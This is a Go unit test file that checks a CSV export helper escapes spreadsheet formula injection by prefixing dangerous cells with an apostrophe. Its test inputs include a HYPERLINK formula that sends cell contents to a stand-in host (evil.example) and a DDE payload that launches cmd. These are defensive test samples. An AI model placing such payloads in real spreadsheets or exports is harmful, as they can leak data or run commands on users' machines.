package output

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"+1+1":                    "'+1+1",
		"-2+3":                    "'-2+3",
		"@SUM(A1:A9)":             "'@SUM(A1:A9)",
		"\t=1":                    "'\t=1",
		"\r=1":                    "'\r=1",
		"  =1":                    "'  =1",
		"＝1":                      "'＝1",
		"Parliamentary oversight": "Parliamentary oversight",
		"Звіт = 2021":             "Звіт = 2021",
		"":                        "",
		"2021":                    "2021",
		"security-sector reform":  "security-sector reform",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVWriter: every cell of every record goes through Cell, and the file reads
// back as CSV.
func TestCSVWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	w.Write([]string{"title", "publisher"})
	w.Write([]string{"=cmd|' /C calc'!A0", "@evil"})
	w.Flush()
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[1][0] != "'=cmd|' /C calc'!A0" || recs[1][1] != "'@evil" || recs[0][0] != "title" {
		t.Errorf("records %q", recs)
	}
}
